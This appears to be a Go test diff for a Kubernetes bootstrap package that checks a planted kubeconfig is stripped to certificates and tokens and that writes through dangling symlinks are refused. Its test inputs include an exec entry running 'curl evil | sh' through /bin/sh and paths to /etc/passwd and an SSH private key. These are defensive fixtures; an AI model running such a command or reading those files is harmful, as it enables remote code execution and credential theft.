@@ -225,3 +225,57 @@ current-context: prod
 		})
 	}
 }
+
+// A kubeconfig planted on the node must not make every CI runner run a
+// command or read local files: only certificates and tokens are kept.
+func TestKubeconfigKeepsOnlyCertificatesAndTokens(t *testing.T) {
+	user := func(s string) string {
+		return strings.Replace(k3sYAML, "    client-certificate-data: Q0VSVA==\n    client-key-data: S0VZ\n", s, 1)
+	}
+	for _, tc := range []struct {
+		name, in string
+		want     *clientcmdapi.AuthInfo
+		wantErr  string
+	}{
+		{"certificate", k3sYAML, &clientcmdapi.AuthInfo{ClientCertificateData: []byte("CERT"), ClientKeyData: []byte("KEY")}, ""},
+		{"token; the file references are dropped", user("    token: abc\n    client-certificate: /etc/passwd\n    tokenFile: /root/.ssh/id_ed25519\n"),
+			&clientcmdapi.AuthInfo{Token: "abc"}, ""},
+		{"exec", user("    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']\n"),
+			nil, `the K3s kubeconfig's user "default": it runs the command "/bin/sh"`},
+		{"auth provider", user("    auth-provider:\n      name: oidc\n      config: {}\n"), nil, `it uses the auth provider "oidc"`},
+		{"no credentials", user("    username: admin\n"), nil, "neither an embedded client certificate and key nor a token"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			cfg, err := bootstrap.Kubeconfig([]byte(tc.in), "main", "k3s.example.com")
+			if tc.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
+					t.Fatalf("error = %v, want %q", err, tc.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if d := cmp.Diff(tc.want, cfg.AuthInfos["main"]); d != "" {
+				t.Errorf("user (-want +got):\n%s", d)
+			}
+		})
+	}
+}
+
+// A symlink that leads nowhere is refused: the credentials would land
+// wherever it points.
+func TestWriteKubeconfigRefusesDanglingSymlink(t *testing.T) {
+	dir := t.TempDir()
+	link := filepath.Join(dir, "kubeconfig")
+	if err := os.Symlink(filepath.Join(dir, "elsewhere", "config"), link); err != nil {
+		t.Fatal(err)
+	}
+	_, err := bootstrap.WriteKubeconfig(link, mustKubeconfig(t, "main"))
+	if err == nil || !strings.Contains(err.Error(), "symlink that leads nowhere") {
+		t.Fatalf("WriteKubeconfig through a dangling symlink: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "elsewhere")); err == nil {
+		t.Error("the symlink's target directory was created")
+	}
+}
